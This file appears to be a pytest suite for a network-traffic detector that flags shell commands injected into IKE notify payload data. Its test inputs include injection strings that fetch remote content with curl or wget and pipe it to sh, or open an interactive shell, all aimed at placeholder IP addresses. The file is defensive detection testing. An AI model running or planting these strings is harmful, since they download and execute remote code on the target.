import pytest

from tests.assessment.build import Talk, found

ID = "command-in-notify"


def talk(data: bytes, **fields) -> Talk:
    made = Talk(version=1, outcome="incomplete")
    made.say("INFORMATIONAL", notifies=[(14, data)], **{"encrypted": False, "payloads": (11,), **fields})
    return made


@pytest.mark.parametrize(
    "data",
    [
        b"x;bash -c curl 198.51.100.9|sh;",
        b'";wget http://198.51.100.9/a -O /tmp/a',
        b"`/bin/sh -i`",
        b"$(curl http://198.51.100.9/)",
        b"| sh",
        b"; \n\t wget x",
        b"\n\n \n/bin/sh",
    ],
)
def test_shell_commands(data: bytes) -> None:
    (finding,) = found(ID, talk(data))
    assert (finding.severity, finding.confidence, finding.subject) == ("critical", "likely", "192.0.2.10")


@pytest.mark.parametrize("data", [b"", b"shared secret mismatch", b"published; shell", b"\x00sh\x01", b"; shoes"])
def test_plain_words(data: bytes) -> None:
    assert found(ID, talk(data)) == []


def test_beside_a_proposal_or_encrypted_it_is_not_this_attack() -> None:
    assert found(ID, talk(b";bash -c id", payloads=(1, 11))) == []
    assert found(ID, talk(b";bash -c id", encrypted=True)) == []


def test_a_payload_full_of_ends_of_commands_is_read_once() -> None:
    """With a search that began again at each of them this would not end within a minute."""
    assert found(ID, talk(b"\n" * 65_000 + b"x sh")) == []
    assert len(found(ID, talk(b"\n" * 65_000 + b"sh"))) == 1
